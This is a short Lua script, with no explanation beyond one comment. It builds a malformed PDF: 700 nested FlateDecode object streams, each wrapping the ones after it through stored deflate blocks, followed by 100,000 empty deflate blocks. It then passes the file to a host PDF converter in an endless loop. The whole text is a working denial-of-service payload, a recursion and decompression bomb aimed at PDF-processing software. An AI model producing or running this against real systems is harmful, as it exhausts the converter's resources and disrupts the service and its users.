-- 700 object streams, each of which holds the others, with one tail of empty deflate blocks.
local bodies, rest = {}, 0
for n = 700, 1, -1 do
  local head = n .. " 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\n"
  bodies[n] = head .. "\x78\x9c\0" .. string.pack("<I2I2", rest, 65535 - rest)
  rest = rest + #bodies[n]
end
local pdf = "%PDF-1.5\n" .. table.concat(bodies) .. ("\0\0\0\xff\xff"):rep(100000)
while true do host.convert("com.adobe.pdf", pdf) end
